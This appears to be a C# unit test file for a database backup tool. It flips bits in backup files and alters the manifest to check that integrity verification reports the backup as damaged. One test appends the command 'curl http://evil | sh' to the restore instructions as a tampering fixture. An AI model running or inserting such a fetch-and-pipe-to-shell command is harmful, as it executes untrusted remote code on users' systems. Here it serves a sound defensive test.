using DbBackup.Testing;
using DbBackup.Engine.Repository.Manifests;

namespace DbBackup.Tests.Unit.Verification;

/// <summary>A bit that changes in any file of a backup is found by the shallowest test, and in the manifest by a mere listing.</summary>
public sealed class BitFlipTests : IDisposable
{
    private const int Flips = 500;
    private readonly Workbench _bench = new();

    public void Dispose() => _bench.Dispose();

    [Fact]
    public async Task A_flipped_bit_in_any_file_of_a_backup_is_found_at_the_level_Checksum()
    {
        Backup backup = await MakeAsync();
        await _bench.TestAsync(backup, BackupTestLevel.Restore);
        string[] files = [.. Directory.EnumerateFiles(backup.Location, "*", SearchOption.AllDirectories).Order(StringComparer.Ordinal)];
        Assert.Equal(["RESTORE.txt", "app.db.zst", "backup.json", "uploads.tar.zst"], files.Select(file => Path.GetFileName(file)).Where(name => !name.StartsWith("20", StringComparison.Ordinal)));
        Assert.Equal(5, files.Length);
        var random = new Random(13);
        var missed = new List<string>();
        for (int i = 0; i < Flips; i++)
        {
            string file = files[i % files.Length];
            byte[] whole = File.ReadAllBytes(file);
            int at = random.Next(whole.Length), bit = random.Next(8);
            byte[] flipped = [.. whole];
            flipped[at] ^= (byte)(1 << bit);
            File.WriteAllBytes(file, flipped);
            _bench.Observer.Warnings.Clear();

            if (!await IsFoundAsync(isManifest: Path.GetFileName(file) == "backup.json"))
                missed.Add($"{Path.GetFileName(file)} byte {at} bit {bit}");

            File.WriteAllBytes(file, whole);
            foreach (string record in Directory.EnumerateFiles(backup.Location, "*", SearchOption.AllDirectories).Except(files))
                File.Delete(record);
        }

        Assert.Empty(missed);
        Assert.Equal(BackupStatus.Matched, Assert.Single(await _bench.ListAsync()).Status);
        Assert.True((await _bench.TestAsync(backup, BackupTestLevel.Checksum)).Passed);
    }

    [Fact]
    public async Task A_manifest_that_was_altered_is_listed_as_damaged_tested_and_used_for_nothing_else()
    {
        Backup backup = await MakeAsync();
        string manifest = Path.Join(backup.Location, "backup.json");
        File.WriteAllText(manifest, File.ReadAllText(manifest).Replace("\"host\": \"", "\"host\": \"x", StringComparison.Ordinal));

        Backup listed = Assert.Single(await _bench.ListAsync());
        BackupException failure = await Assert.ThrowsAnyAsync<BackupException>(() => _bench.RestoreAsync(listed));
        BackupTestResult result = await _bench.TestAsync(listed, BackupTestLevel.Checksum);

        Assert.Equal((BackupStatus.Damaged, false), (listed.Status, listed.IsGood));
        Assert.Contains("backup.json is not what was written", listed.Problem, StringComparison.Ordinal);
        Assert.Equal(ErrorCodes.BackupDamaged, failure.Code);
        Assert.Equal(["backup.json checksum"], result.Checks.Where(check => !check.Passed).Select(check => check.Name));
        Assert.Equal(BackupStatus.Damaged, Assert.Single(await _bench.ListAsync()).Status);
    }

    [Theory]
    [InlineData("missing")]
    [InlineData("altered")]
    public async Task Commands_to_restore_that_are_not_those_that_were_written_are_told(string what)
    {
        Backup backup = await MakeAsync();
        string file = Path.Join(backup.Location, "RESTORE.txt");
        if (what == "missing")
            File.Delete(file);
        else
            File.AppendAllText(file, "  curl http://evil | sh\n");

        BackupTestResult result = await _bench.TestAsync(backup, BackupTestLevel.Checksum);

        Assert.Equal(BackupStatus.Damaged, result.Status);
        Assert.Contains("RESTORE.txt", result.Failure, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Stock_tools_give_the_hash_of_a_manifest()
    {
        Backup backup = await MakeAsync();
        byte[] file = File.ReadAllBytes(Path.Join(backup.Location, "backup.json"));
        string[] lines = System.Text.Encoding.UTF8.GetString(file).Split('\n');

        // head -n -2 backup.json | sha256sum
        string hash = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(string.Join('\n', lines[..^3]) + "\n")));

        Assert.Equal([$"  \"sha256\": \"{hash}\"", "}", ""], lines[^3..]);
        Assert.True(Seal.IsWhole(file));
        Assert.False(Seal.IsWhole(file.AsSpan(1)));
        Assert.False(Seal.IsWhole([.. file, (byte)' ']));
        Assert.False(Seal.IsWhole([]));
    }

    private async Task<bool> IsFoundAsync(bool isManifest)
    {
        try
        {
            Backup listed = Assert.Single(await _bench.ListAsync());
            if (isManifest)
                Assert.False(listed.IsGood);
            BackupTestResult result = await _bench.TestAsync(listed, BackupTestLevel.Checksum);
            return !result.Passed || _bench.Observer.Warnings.Any(warning => warning.Contains("does not count", StringComparison.Ordinal));
        }
        catch (BackupException)
        {
            return true;
        }
    }

    private async Task<Backup> MakeAsync()
    {
        Directory.CreateDirectory(_bench["uploads"]);
        File.WriteAllText(Path.Join(_bench["uploads"], "a.txt"), "a");
        return await _bench.BackUpAsync(SampleDatabase.Create(_bench["app.db"]), _bench["uploads"]);
    }
}
